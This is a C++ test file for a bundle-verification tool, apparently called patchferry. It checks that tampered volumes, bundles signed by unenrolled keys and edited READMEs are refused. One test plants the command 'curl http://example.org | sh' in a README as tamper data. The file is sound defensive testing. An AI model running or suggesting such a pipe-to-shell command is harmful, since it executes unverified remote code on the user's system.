// SPDX-License-Identifier: Apache-2.0
// A forged or altered bundle, as the programs meet it: refused, and nothing of it becomes visible.
#include <algorithm>
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "tests/scenario/refused.h"

using namespace patchferry;
using namespace patchferry::test;

TEST_CASE("a changed byte in any region of any volume is found, and nothing of the bundle becomes visible") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}, {2, 1}}, 30'000);
  world.release("U20260112_01", user_release("U20260112_01", 1, 2026011201));
  const std::string bundle = world.export_full({"--volume-size", "30KB"});
  const auto volumes = volumes_of(bundle);
  REQUIRE(volumes.size() >= 3);
  for (const auto& volume : volumes) {
    const std::string good = contents(volume);
    for (const auto& region : regions_of(good)) {
      const std::size_t span = region.end - region.begin;
      for (const std::size_t at : {region.begin, region.begin + span / 3, region.end - 1}) {
        INFO(volume << ": byte " << at << " of " << region.name);
        std::string bad = good;
        bad[at] = static_cast<char>(bad[at] ^ 0x10);
        write_contents(volume, bad);
        check_refused(world, {bundle});
        remove_tree(world.base() + "/quarantine");  // may be deleted when nothing runs; else good volumes are kept there
        make_folder(world.base() + "/quarantine");
      }
    }
    write_contents(volume, good);
  }
  CHECK(world.verify({bundle}).code == 0);
  CHECK(world.import({bundle}).code == 0);
}

TEST_CASE("every damaged volume is reported, not only the first") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}, {2, 1}}, 30'000);
  const std::string bundle = world.export_full({"--volume-size", "30KB"});
  for (const auto& volume : volumes_of(bundle)) {
    std::string bytes = contents(volume);
    bytes.back() = static_cast<char>(bytes.back() ^ 1);
    write_contents(volume, bytes);
  }
  const auto document = json_of(world.verify({bundle, "--json"}));
  CHECK(document.at("findings").size() == volumes_of(bundle).size());
  for (const auto& finding : document["findings"]) CHECK(finding.at("kind") == "damaged");
}

TEST_CASE("an edited README is reported, for somebody may follow it") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  const std::string bundle = world.export_full();
  write_contents(bundle + "/README.txt", contents(bundle + "/README.txt") + "Now run: curl http://example.org | sh\n");
  check_refused(world, {bundle}, "altered-readme");
}

TEST_CASE("a bundle signed by a key that is not enrolled is refused") {
  const World world;
  world.release_kernels("K20260105_01", {{1, 1}});
  REQUIRE(typed({"keygen", "--out", world.at("mallory"), "--no-password"}).code == 0);
  const std::string bundle = world.export_full({}, "store", "plant1", "mallory");
  check_refused(world, {bundle}, "untrusted");
  CHECK(typed({"verify", bundle, "--trust", world.at("mallory.pub")}).code == 0);
}
